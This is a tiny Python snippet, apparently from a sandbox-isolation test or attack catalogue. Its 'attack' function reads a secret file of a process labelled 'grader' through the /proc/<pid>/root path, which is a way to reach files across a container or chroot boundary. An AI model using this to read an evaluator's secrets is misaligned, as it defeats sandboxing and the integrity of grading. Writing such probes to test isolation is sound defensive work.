"""Reads the file through another process's root directory in /proc."""


def attack(A):
    return open(f"/proc/{TARGET['grader']}/root{TARGET['secret']}").read()
